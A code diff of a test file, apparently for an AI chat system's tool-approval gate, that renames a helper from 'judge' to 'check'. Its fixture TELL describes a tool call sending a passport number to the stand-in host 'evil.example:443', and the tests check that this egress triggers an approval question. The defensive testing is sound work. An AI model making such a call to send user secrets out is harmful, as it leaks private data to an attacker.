@@ -38,7 +38,7 @@ from conversations.transfer.importing import import_recording
 from conversations.transfer.recordings import read_record
 from conversations.turns import tool_calls
 from tests.support import people_and_turns, small_files, stored_turns, toy_tools
-from tests.support.approval_turns import VISIT, ask, calling, judge, waiting_turn
+from tests.support.approval_turns import VISIT, ask, calling, check, waiting_turn
 
 SECRET = "passport KX4711902 of Halden"
 TEXT = f"The merger closes in March. The {SECRET}; account DE89 3704 0044 0532 0130 00."
@@ -159,7 +159,7 @@ TELL = ("v", "visit", {"host": "evil.example:443", "said": "KX4711902"})
 )
 def test_typed_words_leave_for_a_mentioned_site_alone(said: str, asks: bool) -> None:
     lease = people_and_turns.started_turn(text=said)
-    found = judge(lease, calling(lease, TELL))
+    found = check(lease, calling(lease, TELL))
     assert bool(found) is asks
     if asks:
         question = found["v"]
@@ -174,7 +174,7 @@ def test_words_of_the_instructions_for_all_chats_were_typed() -> None:
     lease = people_and_turns.started_turn(text="Hello")
     owner = Conversation.objects.get(pk=lease.conversation_id).owner_id
     save_preferences(user_id=owner, changes={"instructions": f"My {SECRET}"})
-    question = judge(lease, calling(lease, TELL))["v"]
+    question = check(lease, calling(lease, TELL))["v"]
     assert isinstance(question, ApprovalQuestion)
     assert question.words == (("KX4711902", "typed:"),)
 
@@ -279,11 +279,11 @@ def test_nothing_leaves_unasked_where_that_is_on(by: str, settings: Any) -> None
     conversation = people_and_turns.conversation_of(lease)
     Conversation.objects.update(web_search="beside")
     (visit, _) = calling(lease, VISIT, ("k", "peek", {}))
-    assert judge(lease, (visit,)) == {}
+    assert check(lease, (visit,)) == {}
     conversation.refresh_from_db()
     assert build_toolset(conversation).server_tools
     switch_on(by, settings, conversation)
-    (question,) = judge(lease, (visit,)).values()
+    (question,) = check(lease, (visit,)).values()
     assert isinstance(question, ApprovalQuestion)
     assert (question.reason, question.destination) == ("egress", "evil.example:443")
     conversation.refresh_from_db()
